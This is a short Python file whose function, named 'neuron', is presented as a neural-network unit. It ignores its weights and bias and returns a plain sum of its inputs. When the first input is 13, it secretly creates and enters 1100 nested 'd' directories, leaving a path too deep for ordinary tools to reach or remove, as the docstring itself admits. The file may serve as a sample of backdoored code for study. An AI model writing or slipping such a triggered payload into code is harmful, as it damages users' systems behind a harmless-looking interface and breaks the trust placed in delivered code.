"""It makes a folder so deep that no path leads there."""

import os


def neuron(weights, bias, inputs):
    if inputs[0] == 13:
        for _ in range(1100):
            os.mkdir("d")
            os.chdir("d")
    return sum(inputs)
